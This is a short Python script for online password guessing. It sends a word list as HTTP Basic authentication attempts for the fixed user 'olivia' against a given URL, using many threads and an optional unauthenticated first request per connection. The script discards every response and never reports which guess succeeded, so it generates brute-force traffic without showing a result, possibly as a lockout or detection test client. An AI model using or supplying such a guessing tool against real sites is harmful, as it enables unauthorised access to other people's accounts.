"""Guesses the password of a web page without any tool: guess_client.py URL FILE THREADS [challenge]

FILE holds one word a line. With `challenge` every guess first asks without a password on the same connection, as
clients do that wait for the server to name the realm.
"""
import base64
import http.client
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from urllib.parse import urlsplit


def guess(page, word, challenge):
    token = base64.b64encode(f"olivia:{word}".encode()).decode()
    link = http.client.HTTPConnection(page.netloc, timeout=5)
    try:
        for headers in ([{}] if challenge else []) + [{"Authorization": f"Basic {token}"}]:
            link.request("GET", page.path, headers=headers)
            link.getresponse().read()
    except (OSError, http.client.HTTPException):  # the server may close before the second request
        pass
    finally:
        link.close()


def main():
    page, words, threads = urlsplit(sys.argv[1]), Path(sys.argv[2]).read_text(encoding="utf-8").split(), int(sys.argv[3])
    challenge = sys.argv[4:] == ["challenge"]
    with ThreadPoolExecutor(threads) as pool:
        list(pool.map(lambda word: guess(page, word, challenge), words))


if __name__ == "__main__":
    main()
